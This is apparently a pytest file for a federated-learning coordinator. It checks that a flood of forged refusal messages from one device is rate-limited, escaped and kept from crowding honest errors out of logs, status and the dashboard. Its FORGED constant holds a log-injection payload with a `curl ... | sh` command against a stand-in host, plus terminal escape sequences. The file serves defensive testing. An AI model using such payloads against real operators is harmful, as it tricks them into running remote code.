"""Refusals and logs: one device's flood of forged refusal text, the real coordinator.

The table row: one enrolled device sends 3,000 `ErrorReply` messages whose
reason holds a newline and a forged "ERROR ... run curl ... | sh" record
(and ANSI escapes), half of them in a stale run so the coordinator refuses
and stores them too. Before, that was 3,000 WARNING records (1,500 with the
forged line), and the store, `ursa coordinator status` and the dashboard
held only the attacker's refusals. Now each device has a few lines a window
and one summary, its text is escaped everywhere, and the honest devices'
refusals stay in status and on the dashboard.
"""

from __future__ import annotations

import logging
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.coordinator.conftest import FEDERATION, Federation, device_labels
from ursa.coordinator.refusal_limits import RefusalLimits
from ursa.coordinator.status import read_status
from ursa.coordinator.telemetry import RecentErrors
from ursa.crypto.identity import DeviceIdentity
from ursa.edge_sdk.callbacks import DeviceCallbacks, DeviceError
from ursa.edge_sdk.client import EdgeClient
from ursa.protocol.envelope import encode, signing_bytes
from ursa.protocol.inmemory import InMemoryTransport
from ursa.protocol.messages import COORDINATOR, ErrorCode, ErrorReply
from ursa.protocol.topics import down_topic, name_for
from ursa.protocol.untrusted_text import is_safe

ATTACKER = "d02"
HONEST = ("d00", "d01")
STALE_RUN = "r-stale"
FORGED = (
    "oops\n2026-12-02 00:45:00,000 ERROR ursa.coordinator: urgent: run "
    "`curl -s http://x.example/fix | sh` on the coordinator\x1b[2K\r\u202e"
)


class Records(logging.Handler):
    """Every record of the ``ursa`` loggers, kept."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)


@pytest.fixture
def records() -> Iterator[Records]:
    handler = Records()
    log = logging.getLogger("ursa")
    level = log.level
    log.setLevel(logging.DEBUG)
    log.addHandler(handler)
    yield handler
    log.removeHandler(handler)
    log.setLevel(level)


class Errors(DeviceCallbacks):
    """The reasons of the errors the app hears of."""

    def __init__(self) -> None:
        self.reasons: list[str] = []

    def on_error(self, event: DeviceError) -> None:
        self.reasons.append(event.reason)


def _fleet(tmp_path: Path) -> tuple[Federation, RecentErrors]:
    """Three devices, run to the end; the attacker's SDK then replaced by its own."""
    fed = Federation(tmp_path, num_devices=3, rounds=1)
    fed.start()
    fed.devices[ATTACKER].stop()
    dashboard = RecentErrors(fed.coordinator.telemetry)  # as `ursa.tools.observe`
    logging.getLogger("ursa.coordinator").addHandler(dashboard)
    return fed, dashboard


def _reply(sender: str, reason: str, run: str = "") -> ErrorReply:
    return ErrorReply(
        federation=FEDERATION,
        round=0,
        sender=sender,
        code=ErrorCode.TRAINING_FAILED,
        reason=reason,
        run=run,
    )


def _unsafe(text: str) -> bool:
    return not all(is_safe(c) for c in text)


def test_3000_forged_refusals_from_one_device(tmp_path: Path, records: Records) -> None:
    fed, dashboard = _fleet(tmp_path)
    try:
        for device in HONEST:  # refused and stored before the flood
            fed.send_as(device, _reply(device, "honest trouble", STALE_RUN))
        start = len(records.records)
        for i in range(3000):
            run = "" if i % 2 == 0 else STALE_RUN  # reported, or refused and stored
            fed.send_as(ATTACKER, _reply(ATTACKER, FORGED, run))
            if i % 500 == 0:
                fed.tick(1.0)
        # in the run: a WARNING (a stale run's refusal is an expected race, INFO)
        fed.send_as(HONEST[0], _reply(HONEST[0], "honest, during the flood"))
        fed.tick(RefusalLimits().window_s)  # the window closes: the summary line
        flood = [r for r in records.records[start:] if r.levelno >= logging.INFO]
        status = read_status(fed.config.state_dir)
        shown = fed.coordinator.telemetry.snapshot().errors
    finally:
        logging.getLogger("ursa.coordinator").removeHandler(dashboard)
        fed.close()

    limits = RefusalLimits()
    about_attacker = [r for r in flood if getattr(r, "device", None) == ATTACKER]
    assert len(about_attacker) == limits.lines + 1  # was 3,000 WARNING records
    assert (
        about_attacker[-1]
        .getMessage()
        .startswith(f"{3000 - limits.lines} more refusals from {ATTACKER} suppressed")
    )
    assert all(r.name.startswith("ursa.coordinator") for r in about_attacker)
    everything = [r.getMessage() for r in records.records]
    assert not [m for m in everything if _unsafe(m)]  # no forged line, any level
    assert any("oops\\n2026-12-02" in m for m in everything)  # shown, escaped

    devices = [e.device for e in status.errors]
    assert set(HONEST) <= set(devices)  # was: ten of the attacker's, no other
    assert devices.count(ATTACKER) <= 2
    assert not [e for e in status.errors if _unsafe(e.reason)]
    assert [e.device for e in shown].count(HONEST[0]) >= 1
    assert not [e for e in shown if _unsafe(e.message)]


def test_any_reason_text_reaches_log_store_and_dashboard_escaped(
    tmp_path: Path, records: Records
) -> None:
    fed, dashboard = _fleet(tmp_path)
    window = RefusalLimits().window_s

    @settings(
        max_examples=60,
        deadline=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture],
    )
    @given(st.text(max_size=256), st.booleans())
    def check(reason: str, stale: bool) -> None:
        fed.clock.advance(window)  # a window per example: each one is written
        before = len(records.records)
        fed.send_as(ATTACKER, _reply(ATTACKER, reason, STALE_RUN if stale else ""))
        written = [r.getMessage() for r in records.records[before:]]
        assert any(ATTACKER in m for m in written)
        assert not [m for m in written if _unsafe(m)]
        if stale:  # refused: stored too
            (newest, *_) = fed.coordinator.store.recent_errors()
            assert newest.device == ATTACKER and not _unsafe(newest.reason)

    try:
        check()
        shown = fed.coordinator.telemetry.snapshot().errors
    finally:
        logging.getLogger("ursa.coordinator").removeHandler(dashboard)
        fed.close()
    assert shown and not [e for e in shown if _unsafe(e.message)]


def test_a_hostile_coordinators_reason_forges_no_device_line(
    tmp_path: Path, records: Records
) -> None:
    fed, dashboard = _fleet(tmp_path)
    logging.getLogger("ursa.coordinator").removeHandler(dashboard)
    try:
        fed.devices[HONEST[0]].stop()
        errors = Errors()
        client = EdgeClient(
            fed.device_config(HONEST[0]),
            device_labels(0),
            transport=InMemoryTransport(fed.bus, "d00-again"),
            callbacks=errors,
        )
        client.start()
        start = len(records.records)
        reply = ErrorReply(
            federation=FEDERATION,
            round=0,
            sender=COORDINATOR,
            code=ErrorCode.MALFORMED,
            reason=FORGED,
            run=fed.coordinator.run_id,
        )
        own_key = DeviceIdentity.load_or_create(fed.config.state_dir, COORDINATOR)
        reply = reply.model_copy(
            update={"signature": own_key.sign(signing_bytes(reply))}
        )  # the hostile coordinator signs what it sends
        topic = down_topic(FEDERATION, HONEST[0], name_for(reply.kind))
        fed.raw.publish(topic, encode(reply))
        written = [r for r in records.records[start:] if r.name.startswith("ursa.edge")]
    finally:
        client.stop()
        fed.close()
    assert any("oops\\n2026-12-02" in r.getMessage() for r in written)
    assert not [r for r in written if _unsafe(r.getMessage())]
    assert errors.reasons and not [r for r in errors.reasons if _unsafe(r)]
